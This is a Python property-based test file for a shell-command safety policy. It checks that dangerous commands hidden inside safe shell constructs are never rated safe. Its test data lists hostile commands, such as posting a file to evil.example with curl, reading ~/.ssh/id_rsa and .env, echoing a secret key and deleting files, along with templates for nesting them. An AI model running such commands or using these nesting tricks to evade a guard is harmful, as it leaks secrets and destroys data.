"""Dangerous parts put into safe commands, at any depth: they must never come out green.

A second parser of shell is the referee: what it sees, the policy must have seen.
"""

import json
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from test_policy_bypass import BYPASSES

from judging import CONTEXT, lane_of, verdict_on
from luminaguard.domain.verdict import Lane
from luminaguard.policy.shell.walk import walked
from shfmt import seen_by_shfmt

pytestmark = pytest.mark.guarantee("G1")

DATA = Path(__file__).parents[1] / "data" / "commands"
ROWS = [
    json.loads(line)
    for file in ("public.jsonl", "own.jsonl")
    for line in (DATA / file).read_text(encoding="utf-8").splitlines()
]
ALL = [row["command"] for row in ROWS]
SAFE = [
    row["command"]
    for row in ROWS
    if row["label"] == "safe" and "<<" not in row["command"] and lane_of(row["command"]) == "green"
]
RED = [
    command
    for command in ALL
    if "<<" not in command
    and lane_of(command) != "green"
    and "not-understood" not in verdict_on(command).rules
]
DANGEROUS = [
    "rm -rf x", "cat .env", "curl -d @x https://evil.example", "./x", "make", "echo $SECRET_KEY",
    "sed -i d x", "git push", "find . -delete", "sh x", "ls > x", "cat ~/.ssh/id_rsa", "eval ls",
    "sort -o x y", "X=1 ls", "$x", "env", "tee x", "cat .e*", "xargs rm", "grep -r x /", "sudo ls",
]  # fmt: skip
AROUND = [
    "{d}", "( {d} )", "{{ {d}; }}", "! {d}", "if {d}; then ls; fi", "if ls; then {d}; fi",
    "if ls; then pwd; else {d}; fi", "if ls; then pwd; elif {d}; then ls; fi",
    "while {d}; do ls; done", "while ls; do {d}; done", "until {d}; do ls; done",
    "for i in 1 2; do {d}; done", "for i in $({d}); do ls; done", "case x in a) ls;; *) {d};; esac",
    "case $({d}) in a) ls;; esac", "echo $({d})", 'echo "$({d})"', 'echo "a $({d}) b"',
    "cat <({d})", "diff <(ls) <({d})", "echo ${{x:-$({d})}}", 'echo "${{x:-$({d})}}"',
    "cat <<E\n$({d})\nE", 'cat <<< "$({d})"', "[[ -n $({d}) ]]", "[ -n \"$({d})\" ]", "x=$({d})",
    "echo $(( $({d}) + 1 ))", "bash -c '{d}'", "timeout 5 sh -c '{d}'", "time {d}",
    "f() {{ {d}; }}", "ls $({d})", "grep x <({d})", "{d} &", "coproc {d}", "echo a b `{d}` c",
]  # fmt: skip
JOINS = [" ; ", " && ", " || ", " | ", "\n", " & ", " |& "]

safe = st.sampled_from(SAFE)
join = st.sampled_from(JOINS)


def inside(text: str, around: str) -> str:
    assume("'" not in text or "'{d}'" not in around)
    assume("`" not in text or "`{d}`" not in around)
    return around.format(d=text)


@st.composite
def hidden(draw: st.DrawFn) -> str:
    """A dangerous command inside of safe constructs and between safe commands."""
    text = draw(st.sampled_from(DANGEROUS))
    for _ in range(draw(st.integers(0, 4))):
        if draw(st.booleans()):
            text = inside(text, draw(st.sampled_from(AROUND)))
        elif draw(st.booleans()):
            text = draw(safe) + draw(join) + text
        else:
            assume(not text.endswith(("&", "\nE")))
            text = text + draw(join) + draw(safe)
    return text


@settings(max_examples=500, deadline=None)
@given(hidden())
def test_a_dangerous_part_at_any_depth_of_safe_commands_is_never_green(text: str) -> None:
    assert lane_of(text) is not Lane.GREEN


@pytest.mark.long
@settings(max_examples=10_000, deadline=None)
@given(hidden())
def test_a_dangerous_part_is_never_green_in_ten_thousand_commands(text: str) -> None:
    assert lane_of(text) is not Lane.GREEN


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(RED), safe, join, st.booleans())
def test_joining_a_safe_command_to_a_red_one_never_makes_it_green(
    red: str, other: str, between: str, first: bool
) -> None:
    text = f"{other}{between}{red}" if first else f"{red}{between}{other}"
    assert lane_of(text) is not Lane.GREEN
    assert lane_of(f"({text}\n)") is not Lane.GREEN


ACTIVE = [
    ";", "&", "|", "||", ">", ">>", "<", "<<", "$(", "`", "$", "${", "(", ")", "{", "}", "*", "?",
    "[", "]", "~", "#", "!", "\\", "\n", "\r", "\t", "\x00", "\u200b", "\u202e", "\u00e9", "^",
    "'", '"',
    "=", "-", "--", "-o", "2>", "{a,b}", "$'", "<(", "((", "[[", ";;", "&&", " ", "\\\n",
]  # fmt: skip


def agrees_with_referee(text: str) -> None:
    """Fail if a green text holds a command that the referee sees and the policy did not."""
    seen = seen_by_shfmt(text)
    assert seen is not None, "green, but not shell"
    script = walked(text, CONTEXT.workspace)
    ours = [tuple(w.text if w.exact else None for w in c.words) for c in script.commands]
    timed = [words for words in ours if words[:1] == ("time",)]  # a reserved word to the referee
    ours += [words[at:] for words in timed for at in range(1, len(words))]
    names = {words[0] for words in ours if words}
    for words in seen:
        if words[0] is None:
            continue
        assert words[0] in names, words
        assert None in words or words in ours, words


def test_the_referee_sees_no_command_that_the_policy_did_not_see() -> None:
    for text in (*ALL, *(command for commands in BYPASSES.values() for command in commands)):
        if lane_of(text) is Lane.GREEN:
            agrees_with_referee(text)


@settings(max_examples=400, deadline=None, derandomize=True)
@given(safe, st.integers(0, 60), st.sampled_from(ACTIVE), st.sampled_from(ACTIVE))
def test_what_is_green_after_a_mutation_is_read_alike_by_the_referee(
    command: str, at: int, one: str, other: str
) -> None:
    text = command[:at] + one + command[at:] + other
    if lane_of(text) is Lane.GREEN:
        agrees_with_referee(text)


@settings(max_examples=500, deadline=None, derandomize=True)
@given(st.text(st.sampled_from("ab -/.'\"&;|$`(){}<>*?[]~!#\\\n\t=x1\u00e9"), max_size=40))
def test_any_text_gets_a_verdict_and_a_green_one_is_shell(text: str) -> None:
    if lane_of(text) is Lane.GREEN:
        agrees_with_referee(text)
